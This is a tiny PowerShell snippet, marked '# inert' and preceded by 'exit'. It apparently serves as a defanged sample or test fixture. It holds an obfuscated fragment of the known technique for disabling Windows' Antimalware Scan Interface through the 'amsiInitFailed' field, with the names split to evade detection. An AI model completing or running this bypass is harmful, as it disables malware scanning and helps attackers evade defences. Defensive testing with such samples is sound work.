exit
# inert
$a = 'Amsi'+'Utils'; $f = 'amsiInit' + 'Failed'; $t.GetField($f,'NonPublic,Static')
